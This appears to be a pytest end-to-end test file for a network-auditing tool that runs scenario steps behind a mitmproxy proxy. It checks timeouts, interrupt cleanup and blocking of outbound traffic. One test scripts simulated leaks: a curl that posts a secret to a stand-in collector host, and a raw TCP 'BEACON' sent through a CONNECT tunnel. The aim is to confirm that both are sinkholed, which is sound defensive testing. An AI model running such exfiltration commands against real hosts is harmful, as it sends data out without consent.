"""Real runs through the real proxy: timeouts, interrupts, and nothing leaving the machine."""

import json
import os
import signal
import subprocess
import time

import pytest

from .conftest import CLI, REPO, pids_with_marker, run_cli

pytestmark = pytest.mark.e2e


def alive(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat") as fo:
            return fo.read().split(") ")[1][0] != "Z"
    except OSError:
        return False


def wait_ready(events) -> int:
    """Wait until the run's proxy listens; return mitmdump's PID."""
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and not (events.exists() and '"ready"' in events.read_text()):
        time.sleep(0.1)
    return json.loads(events.read_text().splitlines()[0])["pid"]


def test_hanging_step_is_killed_at_its_timeout(write_scenario, tmp_path):
    sc = write_scenario("""\
schema_version: 1
name: hang
steps:
  - name: hang
    run: |
      echo started
      setsid sleep 300 &
      sleep 300
    timeout: 2
    expect_exit: any
  - name: after
    run: echo still-runs
""")
    out = tmp_path / "out"
    t0 = time.monotonic()
    r = run_cli("run", sc, "--capture", "proxy", "--variants", "unset", "--out", out, "--fail-on", "never")
    assert time.monotonic() - t0 < 60
    assert r.returncode == 0, r.stderr
    manifest = json.loads((out / "runs/hang/unset/run.json").read_text())
    hang, after = manifest["steps"]
    assert hang["timed_out"] is True and hang["exit_code"] is None
    assert 2 <= hang["ended"] - hang["started"] < 15
    assert after["exit_code"] == 0
    lines = [json.loads(l) for l in (out / "runs/hang/unset/output.jsonl").read_text().splitlines()]
    assert {"stream": "stdout", "step": "hang", "text": "started"}.items() <= lines[0].items()
    assert any(l["stream"] == "audit" and "timed out" in l["text"] for l in lines)
    assert any(l["text"] == "still-runs" for l in lines)
    assert not pids_with_marker("hang")


@pytest.mark.parametrize("sig, jobs", [(signal.SIGTERM, 1), (signal.SIGINT, 1), (signal.SIGTERM, 2)])
def test_interrupt_leaves_no_process_behind(write_scenario, tmp_path, sig, jobs):
    sc = write_scenario("""\
schema_version: 1
name: slow
steps:
  - run: |
      (setsid sleep 300 &)
      sleep 300
    timeout: 600
""")
    out = tmp_path / "out"
    proc = subprocess.Popen([*CLI, "run", str(sc), "--capture", "proxy", "--variants", "unset,dnt",
                             "--jobs", str(jobs), "--out", str(out)],
                            cwd=REPO, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    events = out / "runs/slow/unset/events.jsonl"
    mitm_pid = wait_ready(events)
    deadline = time.monotonic() + 60  # the sandbox starts after the capture: wait for the step
    while not pids_with_marker("slow", proc.pid) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert pids_with_marker("slow", proc.pid), "the step should be running"
    proc.send_signal(sig)
    _, stderr = proc.communicate(timeout=60)
    assert proc.returncode == 130, stderr
    assert not alive(mitm_pid), "mitmdump outlived the audit"
    assert not pids_with_marker("slow", proc.pid), "a process of the audit outlived it"
    manifest = json.loads((out / "runs/slow/unset/run.json").read_text())
    assert not manifest["complete"] and "interrupted" in manifest["problems"][0]
    assert "Traceback" not in stderr


def test_nothing_leaves_except_to_allowed_hosts(write_scenario, tmp_path, local_server):
    allowed, forbidden = local_server(), local_server()
    a_port, f_port = allowed.server_address[1], forbidden.server_address[1]
    sc = write_scenario(f"""\
schema_version: 1
name: leak
steps:
  - run: |
      export NO_PROXY= no_proxy=
      curl -s http://localhost:{a_port}/allowed; echo
      curl -s http://127.0.0.1:{f_port}/forbidden-direct-ip; echo
      curl -s -d secret=1 https://collector.leak.example/v1/t; echo
      curl -s http://plain.leak.example/ping; echo
      python3 - <<'PY'
      import os, socket
      host, port = os.environ["HTTPS_PROXY"].rsplit(":", 1)
      s = socket.create_connection((host.split("//")[1], int(port)))
      s.sendall(b"CONNECT 127.0.0.1:{f_port} HTTP/1.1\\r\\nHost: 127.0.0.1:{f_port}\\r\\n\\r\\n")
      s.recv(1000)
      s.sendall(b"BEACON raw-tcp-payload\\n")
      s.close()
      PY
network:
  allow: [localhost]
""")
    out = tmp_path / "out"
    r = run_cli("run", sc, "--capture", "proxy", "--variants", "unset", "--out", out, "--fail-on", "never",
                "--format", "json")
    assert r.returncode == 0, r.stderr
    run_dir = out / "runs/leak/unset"
    output = [json.loads(l)["text"] for l in (run_dir / "output.jsonl").read_text().splitlines()]
    assert "upstream-says-hi" in output  # the allowed host really was forwarded
    assert allowed.seen == ["/allowed"]
    assert forbidden.seen == [], "a sinkholed destination received traffic"
    events = [json.loads(l) for l in (run_dir / "events.jsonl").read_text().splitlines()]
    upstream = {(e["host"], e["port"]) for e in events if e["event"] == "upstream"}
    assert upstream == {("localhost", a_port)}
    from auditor import flowstore

    exchanges = list(flowstore.read_mitm(run_dir / "flows.mitm"))
    by_host = {(e.host, e.action) for e in exchanges}
    assert ("collector.leak.example", "sinkhole") in by_host
    assert ("plain.leak.example", "sinkhole") in by_host
    assert ("127.0.0.1", "sinkhole") in by_host
    raw = [e for e in exchanges if e.kind == "tcp"]
    assert raw and b"BEACON raw-tcp-payload" in b"".join(m.content for m in raw[0].messages)


def test_step_that_fails_makes_the_audit_incomplete(write_scenario, tmp_path):
    sc = write_scenario("""\
schema_version: 1
name: broken
steps:
  - name: install
    run: echo "no such package" >&2; exit 1
  - name: slow
    run: sleep 30
    timeout: 1
""")
    out = tmp_path / "out"
    r = run_cli("run", sc, "--capture", "proxy", "--variants", "unset", "--out", out, "--format", "json")
    assert r.returncode == 3, r.stderr
    assert "INCOMPLETE" in r.stderr and "'install' ended with exit code 1, expected 0" in r.stderr
    doc = json.loads((out / "findings.json").read_text())
    assert doc["complete"] is False
    assert any("'slow' ended with no exit code (timed out)" in p for p in doc["problems"])


def test_sigkill_of_the_audit_leaves_nothing_behind(write_scenario, tmp_path):
    """Even with no chance to clean up, the audit's processes, proxy and CA key do not survive it."""
    sc = write_scenario("""\
schema_version: 1
name: killed
steps:
  - run: |
      (setsid sleep 300 &)
      sleep 300
    timeout: 600
""")
    out = tmp_path / "out"
    proc = subprocess.Popen([*CLI, "run", str(sc), "--capture", "proxy", "--variants", "unset", "--out", str(out)],
                            cwd=REPO, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    events = out / "runs/killed/unset/events.jsonl"
    mitm_pid = wait_ready(events)
    cmdline = open(f"/proc/{mitm_pid}/cmdline", "rb").read().split(b"\0")
    confdir = next(a for a in cmdline if a.startswith(b"confdir=")).decode().split("=", 1)[1]
    state = os.path.dirname(confdir)
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline and not pids_with_marker("killed", proc.pid):
        time.sleep(0.1)
    assert os.path.isdir(state) and pids_with_marker("killed", proc.pid)
    proc.kill()
    proc.wait()
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline and (alive(mitm_pid) or pids_with_marker("killed", proc.pid)
                                           or os.path.exists(state)):
        time.sleep(0.2)
    assert not alive(mitm_pid), "mitmdump outlived a killed audit"
    assert not pids_with_marker("killed", proc.pid), "a step outlived a killed audit"
    assert not os.path.exists(state), "the audit state (CA private key) outlived a killed audit"
